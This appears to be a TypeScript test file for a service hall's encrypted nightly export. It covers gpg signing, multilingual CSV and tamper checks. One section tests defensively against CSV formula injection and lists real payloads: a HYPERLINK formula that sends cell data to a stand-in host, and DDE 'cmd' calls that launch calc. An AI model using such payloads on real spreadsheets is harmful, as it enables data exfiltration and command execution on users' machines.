// The nightly export end to end: the CLI builds a batch that the real gpg decrypts and whose
// signature it verifies, with Excel-ready CSV (BOM, CRLF, RFC 4180) holding Tibetan and
// Uyghur byte for byte; verify-batch accepts it and refuses a tampered one; the admin routes;
// the day's close and the catch-up run with a fake clock.
import assert from 'node:assert/strict';
import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { parseCsv } from '../../electron/core/export/csv.js';
import { exportServiceOf } from '../../electron/server/export/index.js';
import { readHallPublicKey } from '../../electron/server/export/keys.js';
import { loadOrCreateKeyFile, PersonalDataCipher } from '../../electron/server/forms/personalData.js';
import { Database } from '../../electron/store/db.js';
import { gpgDecrypt, gpgImport, stopGpgAgent, makeDistrictKey, PAST_DAY, PAST_DAY_10H, runCli, seedHall, untar, type DistrictKey } from '../support/exportFixture.js';
import { api, startTestHall, tempDir } from '../support/hall.js';

const tmp = tempDir('hall-export-');
let key: DistrictKey;
before(() => {
  key = makeDistrictKey(tmp.dir);
});
after(() => {
  stopGpgAgent(key);
  tmp.remove();
});

const TRICKY = {
  comma: 'ཁྱིམ་ཚང་, 户籍, ئائىلە',
  quote: 'he said "བཀྲ་ཤིས་བདེ་ལེགས" and "ياخشىمۇسىز"',
  newline: 'line one\r\nལེ་ཚན་གཉིས།\nئىككىنچى قۇر',
  uyghur: 'ئۈرۈمچى شەھىرى',
  tibetan: 'ལྷ་ས་གྲོང་ཁྱེར།',
};

describe('export batch with gpg', () => {
  it('gpg verifies and decrypts the batch; CSV has BOM, CRLF, RFC 4180 quoting and the scripts byte for byte', async () => {
    const dataDir = join(tmp.dir, 'hall-a');
    await seedHall(dataDir, 20);
    // A form and submissions, one with sealed personal answers.
    mkdirSync(join(dataDir, 'keys'), { recursive: true });
    loadOrCreateKeyFile(join(dataDir, 'keys', 'personal-data.key'));
    const cipher = new PersonalDataCipher({ kind: 'key_file', file: join(dataDir, 'keys', 'personal-data.key'), dataDir });
    const db = await Database.open(join(dataDir, 'hall.sqlite3'));
    const definition = {
      id: 'household', version: 1, serviceId: null, title: { zh: '户籍', bo: 'ཁྱིམ་ཚང་', ug: 'نوپۇس' }, allowWithoutTicket: true,
      fields: [
        { code: 'note', type: 'longtext', label: { zh: '备注', bo: 'མཆན།', ug: 'ئىزاھات' }, required: false, personal: false },
        { code: 'full_name', type: 'text', label: { zh: '姓名', bo: 'མིང་།', ug: 'ئىسىم' }, required: true, personal: true },
      ],
    };
    await db.write(async (c) => {
      await c.run(`INSERT INTO form_definitions (id, version, definition, created_at) VALUES ('household', 1, ?, 1)`, [JSON.stringify(definition)]);
      let i = 0;
      for (const [name, text] of Object.entries(TRICKY)) {
        const id = `s-${name}`;
        const sealed = i === 0 ? cipher.seal({ full_name: TRICKY.tibetan }, id) : null;
        await c.run(
          `INSERT INTO submissions (id, form_id, form_version, language, filled_by, created_at, day, answers, sealed, key_id)
           VALUES (?, 'household', 1, 'bo', 'kiosk', ?, ?, ?, ?, ?)`,
          [id, PAST_DAY_10H + i, PAST_DAY, JSON.stringify({ note: text }), sealed?.sealed ?? null, sealed?.keyId ?? null],
        );
        i++;
      }
    });
    await db.close();

    const out = join(tmp.dir, 'out-a');
    mkdirSync(out);
    const r = await runCli('export', ['--data-dir', dataDir, '--district-key', key.publicFile, '--to-folder', out]);
    assert.equal(r.code, 0, r.stderr);
    const batchId = r.stdout.trim();
    assert.match(batchId, /^\d{8}T\d{6}Z-[0-9a-f]{8}$/);
    assert.deepEqual(readdirSync(out), [`${batchId}.gpg`]);

    const hall = (await readHallPublicKey(dataDir))!;
    gpgImport(key, hall.armored);
    const d = gpgDecrypt(key, join(out, `${batchId}.gpg`));
    assert.ok(d.ok, d.stderr);
    assert.match(d.status, new RegExp(`VALIDSIG ${hall.fingerprint}`));
    assert.match(d.status, /DECRYPTION_OKAY/);
    const files = untar(d.plain);
    for (const name of ['manifest.json', 'tickets.csv', 'tickets.jsonl', 'statistics.csv', 'submissions-household-v1.csv']) assert.ok(files.has(name), name);

    const manifest = JSON.parse(files.get('manifest.json')!.toString('utf8')) as { batchId: string; files: { name: string; records: number }[] };
    assert.equal(manifest.batchId, batchId);
    assert.equal(manifest.files.find((f) => f.name === 'tickets.csv')?.records, 21);
    assert.equal(manifest.files.find((f) => f.name === 'submissions-household-v1.csv')?.records, 5);

    const tickets = files.get('tickets.csv')!;
    assert.deepEqual([...tickets.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
    const text = tickets.toString('utf8');
    assert.equal(text.split('\r\n').length - 1, 23, 'two header rows + 21 tickets, each ending in CRLF');
    assert.ok(!/[^\r]\n/.test(text), 'no bare LF line ends');
    // The ticket left waiting on its closed day left as expired.
    assert.ok(parseCsv(text).some((row) => row[10] === 'expired'));

    const subBytes = files.get('submissions-household-v1.csv')!;
    assert.deepEqual([...subBytes.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
    const rows = parseCsv(subBytes.toString('utf8'));
    assert.equal(rows[1]![rows[0]!.indexOf('note')], '备注', 'second header row: Chinese labels');
    const noteCol = rows[0]!.indexOf('note');
    const nameCol = rows[0]!.indexOf('full_name');
    const byId = new Map(rows.slice(2).map((row) => [row[0], row]));
    for (const [name, value] of Object.entries(TRICKY)) assert.equal(byId.get(`s-${name}`)![noteCol], value);
    assert.equal(byId.get('s-comma')![nameCol], TRICKY.tibetan, 'sealed personal answer opened into the batch');
    // Byte for byte: the quoted field as RFC 4180 writes it.
    const quoted = Buffer.from(`"${TRICKY.quote.replaceAll('"', '""')}"`, 'utf8');
    assert.ok(subBytes.includes(quoted));
    assert.ok(subBytes.includes(Buffer.from(`"${TRICKY.newline}"`, 'utf8')));
    assert.ok(subBytes.includes(Buffer.from(TRICKY.uyghur, 'utf8')) && subBytes.includes(Buffer.from(TRICKY.tibetan, 'utf8')));
    const jsonl = files.get('submissions-household-v1.jsonl')!.toString('utf8').trim().split('\n').map((l) => JSON.parse(l) as { id: string; answers: Record<string, string> });
    assert.equal(jsonl.find((s) => s.id === 's-newline')?.answers.note, TRICKY.newline);

    // The district's verify command accepts it with the hall key given; with the key inside the
    // batch only when integrity alone is asked for (test/api/verifyBatch.test.ts has the forgeries).
    const hallKeyFile = join(tmp.dir, 'hall.asc');
    writeFileSync(hallKeyFile, hall.armored);
    const v = await runCli('verifyBatch', [join(out, `${batchId}.gpg`), '--key', key.secretFile, '--hall-key', hallKeyFile]);
    assert.equal(v.code, 0, v.stderr + v.stdout);
    assert.match(v.stdout, /OK: signature, hashes and counts check out/);
    assert.equal((await runCli('verifyBatch', [join(out, `${batchId}.gpg`), '--key', key.secretFile])).code, 1);
    assert.equal((await runCli('verifyBatch', [join(out, `${batchId}.gpg`), '--key', key.secretFile, '--integrity-only'])).code, 0);

    // A flipped byte fails with a clear message; so does another hall's key.
    const bad = join(tmp.dir, 'tampered.gpg');
    const bytes = readFileSync(join(out, `${batchId}.gpg`));
    bytes[Math.floor(bytes.length / 2)]! ^= 0x01;
    writeFileSync(bad, bytes);
    const vb = await runCli('verifyBatch', [bad, '--key', key.secretFile, '--hall-key', hallKeyFile]);
    assert.equal(vb.code, 1);
    assert.match(vb.stderr, /FAILED/);
    const other = makeDistrictKey(join(tmp.dir, 'other'));
    const vo = await runCli('verifyBatch', [join(out, `${batchId}.gpg`), '--key', key.secretFile, '--hall-key', other.publicFile]);
    assert.equal(vo.code, 1);
    assert.match(vo.stderr, /signature verified: Could not find signing key/);
    stopGpgAgent(other);

    // Everything was marked; a second run has nothing new.
    const again = await runCli('export', ['--data-dir', dataDir, '--district-key', key.publicFile, '--to-folder', out]);
    assert.equal(again.code, 0);
    assert.match(again.stdout, /Nothing new/);
    const db2 = await Database.open(join(dataDir, 'hall.sqlite3'));
    assert.equal((await db2.reader.get<{ n: number }>('SELECT COUNT(*) AS n FROM submissions WHERE export_batch_id = ? AND exported_at IS NOT NULL', [batchId]))?.n, 5);
    assert.equal((await db2.reader.get<{ n: number }>('SELECT COUNT(*) AS n FROM tickets WHERE exported_at IS NULL'))?.n, 0);
    await db2.close();
  });
});

describe('CSV cells cannot become formulas (issue 17)', () => {
  // Every way a spreadsheet starts a formula, as a resident could type it.
  const FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '+1+cmd|\' /C calc\'!A0',
    '-2+3',
    '@SUM(1+1)*cmd|\' /C calc\'!A0',
    '\t=1+1',
    '\r=1+1',
  ];
  const TRIGGER = /^[=+\-@\t\r]/;

  it('every text cell of every CSV that starts like a formula gets a leading apostrophe; numbers and JSON Lines stay raw', async () => {
    const dataDir = join(tmp.dir, 'hall-formulas');
    await seedHall(dataDir, 3);
    mkdirSync(join(dataDir, 'keys'), { recursive: true });
    loadOrCreateKeyFile(join(dataDir, 'keys', 'personal-data.key'));
    const cipher = new PersonalDataCipher({ kind: 'key_file', file: join(dataDir, 'keys', 'personal-data.key'), dataDir });
    const db = await Database.open(join(dataDir, 'hall.sqlite3'));
    const t3 = (zh: string) => ({ zh, bo: zh, ug: zh });
    const definition = {
      id: 'formulas', version: 1, serviceId: null, title: t3('公式'), allowWithoutTicket: true,
      fields: [
        { code: 'text', type: 'text', label: t3('文本'), required: false, personal: false },
        { code: 'long', type: 'longtext', label: t3('长文本'), required: false, personal: false },
        { code: 'name', type: 'text', label: t3('姓名'), required: false, personal: true },
        { code: 'whole', type: 'integer', label: t3('整数'), required: false, personal: false },
        { code: 'part', type: 'decimal', label: t3('小数'), required: false, personal: false },
        { code: 'when', type: 'date', label: t3('日期'), required: false, personal: false },
        { code: 'pick', type: 'multichoice', label: t3('多选'), required: false, personal: false, choices: [{ code: 'a', label: t3('甲') }] },
        { code: 'ok', type: 'yesno', label: t3('是否'), required: false, personal: false },
      ],
    };
    await db.write(async (c) => {
      await c.run(`INSERT INTO form_definitions (id, version, definition, created_at) VALUES ('formulas', 1, ?, 1)`, [JSON.stringify(definition)]);
      for (const [i, f] of FORMULAS.entries()) {
        const id = `f-${i}`;
        const sealed = cipher.seal({ name: f }, id);
        const answers = { text: f, long: `${f}\nsecond line`, whole: -5 - i, part: -1.5, when: '2026-11-20', pick: ['a'], ok: false, other_code: f };
        await c.run(
          `INSERT INTO submissions (id, form_id, form_version, language, filled_by, created_at, day, answers, sealed, key_id)
           VALUES (?, 'formulas', 1, 'zh', 'kiosk', ?, ?, ?, ?, ?)`,
          [id, PAST_DAY_10H + i, PAST_DAY, JSON.stringify(answers), sealed.sealed, sealed.keyId],
        );
      }
      await c.run(`INSERT INTO ratings (id, ticket_id, counter_id, staff_id, service_id, day, score, reasons, via, at) SELECT 'r-1', id, counter_id, '-staff', service_id, day, 1, ?, 'pad', ? FROM tickets WHERE id = 't-000001'`, [JSON.stringify(['=bad', '+worse']), PAST_DAY_10H + 600_000]);
      await c.run(`INSERT INTO rating_followups (id, rating_id, opened_at, closed_at, closed_by, note) VALUES ('fu-1', 'r-1', ?, ?, '@staff', ?)`, [PAST_DAY_10H + 700_000, PAST_DAY_10H + 800_000, FORMULAS[0]!]);
    });
    await db.close();

    const out = join(tmp.dir, 'out-formulas');
    mkdirSync(out);
    const r = await runCli('export', ['--data-dir', dataDir, '--district-key', key.publicFile, '--to-folder', out]);
    assert.equal(r.code, 0, r.stderr);
    const batchId = r.stdout.trim();
    const hall = (await readHallPublicKey(dataDir))!;
    gpgImport(key, hall.armored);
    const d = gpgDecrypt(key, join(out, `${batchId}.gpg`));
    assert.ok(d.ok, d.stderr);
    const files = untar(d.plain);
    const manifest = JSON.parse(files.get('manifest.json')!.toString('utf8')) as { csvFormulaGuard?: string; files: { name: string }[] };
    assert.equal(manifest.csvFormulaGuard, 'leading-apostrophe');

    // Every cell of every CSV, opened back with a CSV parser: nothing starts like a formula
    // except a plain number.
    const csvNames = [...files.keys()].filter((n) => n.endsWith('.csv'));
    assert.ok(csvNames.includes('submissions-formulas-v1.csv') && csvNames.includes('rating_followups.csv') && csvNames.includes('ratings.csv'), csvNames.join(', '));
    for (const name of csvNames) {
      for (const row of parseCsv(files.get(name)!.toString('utf8'))) {
        for (const cell of row) assert.ok(!TRIGGER.test(cell) || /^-\d+(?:\.\d+)?$/.test(cell), `${name}: ${JSON.stringify(cell)}`);
      }
    }

    const rows = parseCsv(files.get('submissions-formulas-v1.csv')!.toString('utf8'));
    const col = (code: string) => rows[0]!.indexOf(code);
    const byId = new Map(rows.slice(2).map((row) => [row[0], row]));
    for (const [i, f] of FORMULAS.entries()) {
      const row = byId.get(`f-${i}`)!;
      assert.equal(row[col('text')], `'${f}`, 'text');
      assert.equal(row[col('long')], `'${f}\nsecond line`, 'longtext');
      assert.equal(row[col('name')], `'${f}`, 'sealed personal text');
      assert.equal(row[col('whole')], String(-5 - i), 'a negative whole number stays a number');
      assert.equal(row[col('part')], '-1.5', 'a negative decimal stays a number');
      assert.equal(row[col('when')], '2026-11-20');
      assert.equal(row[col('pick')], 'a');
      assert.equal(row[col('ok')], 'false');
      assert.ok(row[col('other')]!.startsWith('{'), 'unknown answers as JSON');
    }
    const followup = parseCsv(files.get('rating_followups.csv')!.toString('utf8'))[2]!;
    assert.ok(followup.includes(`'${FORMULAS[0]}`) && followup.includes("'@staff"), JSON.stringify(followup));
    const rating = parseCsv(files.get('ratings.csv')!.toString('utf8'))[2]!;
    assert.ok(rating.includes("'=bad;+worse") && rating.includes("'-staff"), JSON.stringify(rating));

    // JSON Lines keep the raw values.
    const jsonl = files.get('submissions-formulas-v1.jsonl')!.toString('utf8').trim().split('\n').map((l) => JSON.parse(l) as { id: string; answers: Record<string, unknown> });
    for (const [i, f] of FORMULAS.entries()) {
      const s = jsonl.find((x) => x.id === `f-${i}`)!;
      assert.equal(s.answers.text, f);
      assert.equal(s.answers.name, f);
      assert.equal(s.answers.whole, -5 - i);
    }
  });
});

describe('admin export routes and the day’s close with a fake clock', () => {
  it('the hall was off at midnight and at 02:00: at start the day closes and one catch-up run delivers', async () => {
    const dataDir = join(tmp.dir, 'hall-b');
    const out = join(tmp.dir, 'out-b');
    mkdirSync(out);
    let now = PAST_DAY_10H; // 2026-11-20 10:00 Asia/Shanghai
    const clock = { now: () => now };
    let hall = await startTestHall({ dataDir, clock });
    const issue = async (language: string) =>
      (await api<{ id: string }>(hall.url, 'POST', '/api/tickets', hall.kioskToken, { serviceId: 'enquiries', language })).body.id;
    const waiting = await issue('bo');
    await issue('ug');

    // Settings through the admin API: a bad key is refused, the good one shows its fingerprint.
    const bad = await api(hall.url, 'PUT', '/api/export/settings', hall.adminToken, { districtKey: 'not a key' });
    assert.equal(bad.status, 400);
    const put = await api<{ district: { fingerprint: string }; schedule: string }>(hall.url, 'PUT', '/api/export/settings', hall.adminToken, {
      districtKey: readFileSync(key.publicFile, 'utf8'),
      targets: [{ kind: 'folder', path: out }],
      schedule: '02:00',
    });
    assert.equal(put.status, 200, JSON.stringify(put.body));
    assert.equal(put.body.district.fingerprint, key.fingerprint);
    const hk = await api<{ fingerprint: string; publicKey: string }>(hall.url, 'GET', '/api/export/hall-key', hall.adminToken);
    assert.equal(hk.status, 200);
    assert.match(hk.body.publicKey, /BEGIN PGP PUBLIC KEY BLOCK/);
    await hall.stop();

    // Two days later at 09:00: midnight and 02:00 both passed while the hall was off.
    now = PAST_DAY_10H + 47 * 3600_000;
    hall = await startTestHall({ dataDir, clock });
    const service = exportServiceOf(hall.server.context)!;
    const outcome = (await service.startup) as { result: string; batchId: string } | null;
    assert.equal(outcome?.result, 'delivered', JSON.stringify(outcome));
    const t = await api<{ state: string }>(hall.url, 'GET', `/api/tickets/${waiting}`, hall.adminToken);
    assert.equal(t.body.state, 'expired');
    const runs = await api<{ trigger: string; result: string; batchId: string }[]>(hall.url, 'GET', '/api/export/runs', hall.adminToken);
    assert.deepEqual(runs.body.map((r) => [r.trigger, r.result]), [['catch-up', 'delivered']]);
    assert.deepEqual(readdirSync(out), [`${outcome.batchId}.gpg`]);

    // "Export now" from the admin page: nothing new, shown in the history.
    now += 60_000;
    const start = await api(hall.url, 'POST', '/api/export/run', hall.adminToken, {});
    assert.equal(start.status, 202);
    let runs2: { trigger: string; result: string | null }[] = [];
    for (let i = 0; i < 200; i++) {
      runs2 = (await api<{ trigger: string; result: string | null }[]>(hall.url, 'GET', '/api/export/runs', hall.adminToken)).body;
      if (runs2.length === 2 && runs2[0]!.result !== null) break;
      await new Promise((r) => setTimeout(r, 50));
    }
    assert.deepEqual(runs2.map((r) => [r.trigger, r.result]), [['manual', 'nothing'], ['catch-up', 'delivered']]);
    assert.equal((await api<{ running: unknown }>(hall.url, 'GET', '/api/export/status', hall.adminToken)).body.running, null);
    await hall.stop();

    // Started again the same morning: no second catch-up.
    now += 30 * 60_000;
    hall = await startTestHall({ dataDir, clock });
    assert.equal(await exportServiceOf(hall.server.context)!.startup, null);
    await hall.stop();
  });
});
